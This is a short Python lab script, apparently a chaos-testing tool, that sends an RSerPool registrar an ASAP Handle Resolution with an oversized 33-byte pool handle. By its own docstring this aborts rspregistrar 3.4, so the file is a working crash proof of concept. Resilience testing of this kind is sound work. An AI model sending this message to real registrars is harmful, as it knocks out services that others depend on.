"""Sends a registrar one handle resolution with a pool handle of 33 bytes, which aborts rspregistrar 3.4.

For labs: `python -m rspdns_lab.chaos.long_handle ADDRESS`, run where SCTP works.
"""

import contextlib
import struct
import sys
import time
from typing import Final

from rserpool import AssociationUp, RegistrarAddress, SctpSocket

_ASAP_PPID: Final = 11
_HANDLE_RESOLUTION: Final = 5
_POOL_HANDLE: Final = 9
_TIMEOUT_S: Final = 5.0


def message(length: int = 33) -> bytes:
    """Return an ASAP Handle Resolution with a handle of `length` bytes (RFC 5352, section 2.2.5)."""
    parameter = struct.pack(">HH", _POOL_HANDLE, 4 + length) + b"x" * length + bytes(-length % 4)
    return struct.pack(">BBH", _HANDLE_RESOLUTION, 0, 4 + len(parameter)) + parameter


def send(address: RegistrarAddress) -> bool:
    """Send it; return whether there was somebody to send it to."""
    sender = SctpSocket()
    sender.connect(address.endpoint)
    end_s = time.monotonic() + _TIMEOUT_S
    while time.monotonic() < end_s:
        with contextlib.suppress(BlockingIOError):
            if isinstance(up := sender.receive(), AssociationUp):
                sender.send(up.association, _ASAP_PPID, message())
                time.sleep(0.3)  # closing the socket must not overtake it
                return True
        time.sleep(0.005)
    return False


if __name__ == "__main__":
    sys.exit(0 if send(RegistrarAddress.parse(sys.argv[1])) else 1)
